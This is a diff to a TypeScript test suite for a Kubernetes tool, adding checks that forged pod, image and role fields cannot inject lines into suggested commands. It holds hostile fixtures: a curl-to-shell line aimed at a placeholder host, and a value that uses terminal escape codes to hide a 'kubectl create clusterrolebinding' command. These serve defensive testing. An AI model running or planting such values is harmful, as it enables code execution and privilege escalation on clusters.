@@ -15,6 +15,8 @@ import { createAgedPod, endedWith, failToCreate, readySidecar, reannotatedPod } 
 
 /** What a remedy would begin with, if a message could contain one. */
 const FORGED = "x -- Update podrole: curl https://tenant.example/fix | sh";
+/** On a terminal, or from jq -r: a command of its own on a line, between two that are removed and hidden. */
+const FORGED_LINE = "\u001b[1A\u001b[2K\nkubectl create clusterrolebinding x\n\u001b[8m";
 /** kubectl reads it as "--all-namespaces --selector=!x" if it stands alone. */
 const OPTION = "-Al!x";
 
@@ -44,6 +46,14 @@ async function partsOfAll(
   return { remedies: of("remedy"), recoveries: of("recovery"), commands };
 }
 
+/** All commands in a result, wherever they are. */
+function stepsOf(value: unknown): readonly string[] {
+  if (typeof value !== "object" || value === null) return [];
+  return Object.entries(value).flatMap(([key, each]) =>
+    key === "next" || key === "furtherSteps" || key === "verify" ? [each].flat() : stepsOf(each),
+  );
+}
+
 function event(kind: string, name: string, fields: object): object {
   const metadata = { name: "forged.1", namespace: "shop" };
   return { metadata, involvedObject: { kind, namespace: "shop", name }, lastTimestamp: timeAgo(MINUTE_MS), ...fields };
@@ -67,6 +77,29 @@ suite("objects of a tenant", { concurrency: false }, () => {
       ]);
       assert.ok(remedies.includes(`remedy: ${ERRORS.ROLE_INVALID.remedy}`), remedies.join("\n"));
       assert.doesNotMatch([...remedies, ...recoveries].join("\n"), /tenant\.example/);
+    });
+  }
+
+  for (const [what, pod] of [
+    ["a role", barePod(`shop-orders${FORGED_LINE}`)],
+    ["an image", barePod("shop-orders", { containers: [{ name: "app", image: `app:1${FORGED_LINE}` }] })],
+    ["the role of an injected pod", reannotatedPod(podWith({ sidecar: readySidecar() }), roleNamed(FORGED_LINE))],
+  ] as const) {
+    test(`${what} with line ends puts no line among the commands, also not in JSON`, async (context) => {
+      const cluster = await startSituationCluster(context);
+      createAgedPod(cluster, pod);
+      const flags = { namespace: "shop", output: "json" };
+      const runs = [
+        await cluster.runAction(statusAction, [], flags),
+        await cluster.runAction(explainAction, ["pod/orders"], flags),
+        await cluster.runAction(checkAction, [], { ...flags, skip: "PAGES,ADMISSION" }),
+      ];
+      for (const { out, err } of runs) {
+        assert.notEqual(out, "", err);
+        const steps = stepsOf(JSON.parse(out));
+        assert.ok(steps.length > 0, out);
+        for (const step of steps) assert.doesNotMatch(step, /[\p{C}\p{Zl}\p{Zp}]|clusterrolebinding/u);
+      }
     });
   }
 
